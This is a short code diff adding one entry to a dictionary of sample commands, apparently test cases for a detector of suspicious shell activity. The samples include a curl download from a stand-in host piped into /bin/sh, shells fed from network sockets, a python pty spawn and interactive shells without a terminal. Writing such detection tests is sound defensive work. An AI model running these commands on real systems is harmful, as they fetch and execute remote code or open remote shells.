@@ -213,6 +213,7 @@ PRETENDERS = {
                                                     "python3 -c 'import pty; pty.spawn(1)'"],
     "Download goes into a shell": ["sh -c $'curl -s http://x.invalid/a |\\n/bin/sh; true'"],
     "Shell reads from the network": ["deed socket-stdin busybox sh -c :", "deed as app socket-stdin python3 -c 1",
+                                     "cp /opt/t/deed /dev/shm/app; deed socket-stdin /dev/shm/app nothing",
                                      "cp /bin/busybox /opt/x; deed socket-stdin /opt/x true",
                                      "deed socket-stdin $(echo /lib*/ld-linux-*.so.*) /bin/bash -c :"],
     "Interactive shell without a terminal": ["echo : | bash -li", "echo : | exec -a app sh -i"],
